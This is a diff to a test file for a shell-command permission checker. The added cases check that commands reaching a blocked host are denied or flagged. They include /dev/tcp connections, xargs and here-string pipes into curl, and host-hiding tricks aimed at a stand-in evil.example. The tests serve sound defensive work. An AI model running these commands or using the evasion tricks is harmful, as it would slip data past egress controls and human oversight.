@@ -34,6 +34,10 @@ describe('a blocked host', () => {
     'curl xn--bcher-kva.example',
     'npm install --registry https://evil.example',
     'find . -exec curl evil.example {} +',
+    'cat < /dev/tcp/evil.example/80',
+    'exec 3<>/dev/tcp/EVIL.example/80',
+    'echo evil.example | xargs curl',
+    'xargs curl <<< evil.example',
   ])('is closed to a command: %s', (line) => expect(bash(line)).toBe('deny'))
 
   test.for([
@@ -42,6 +46,10 @@ describe('a blocked host', () => {
     'curl 3405803785',
     'ssh ann@203.0.113.9',
     'curl [2001:db8::9]',
+    'curl --resolve good.example:443:203.0.113.9 https://good.example',
+    'curl "https://evil.${x:-example}"',
+    'curl $(cat host.txt)',
+    'xargs curl < hosts.txt',
   ])('may hide behind an address: %s', (line) => expect(bash(line)).toBe('ask'))
 
   test.for([
@@ -50,6 +58,7 @@ describe('a blocked host', () => {
     'git commit -m "Block evil.example"',
     'curl good.example',
     'curl http://127.0.0.1:3000/',
+    'curl -H "Authorization: $TOKEN" -d "$BODY" https://good.example',
     'curl -o a.json https://notevil.example/evil.json',
     'npm test',
   ])('leaves the rest alone: %s', (line) => expect(bash(line)).toBe('allow'))
